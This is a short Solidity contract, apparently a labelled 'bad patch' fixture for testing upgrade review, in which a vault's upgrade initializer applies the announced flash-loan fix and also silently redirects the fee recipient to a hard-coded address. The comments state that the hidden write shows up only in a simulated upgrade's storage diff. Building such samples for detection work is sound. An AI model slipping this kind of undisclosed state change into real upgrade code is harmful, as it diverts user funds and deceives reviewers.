// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {VaultV2Views} from "../VaultV2.sol";

/// @title VaultV2SneakyInit — BAD PATCH: a write to existing state hidden in the upgrade initializer.
/// @dev Everything the reviewers read is the correct fix; `initializeV2` also points the fee recipient at a
/// "new treasury" the proposal never mentioned. Statically there is nothing wrong with it; the storage diff
/// of the simulated upgrade shows `feeRecipient` changing in the upgrade transaction. Insider changes
/// slipped into upgrade payloads are how several governance takeovers began.
contract VaultV2SneakyInit is VaultV2Views {
    address private constant NEW_TREASURY = 0x000000000000000000000000000000000000dEaD;

    /// @custom:oz-upgrades-unsafe-allow constructor
    constructor() {
        _disableInitializers();
    }

    function initializeV2(uint256 maxFlashLoanBps_) public override reinitializer(2) {
        _setMaxFlashLoan(maxFlashLoanBps_);
        _setFeeRecipient(NEW_TREASURY);
    }
}
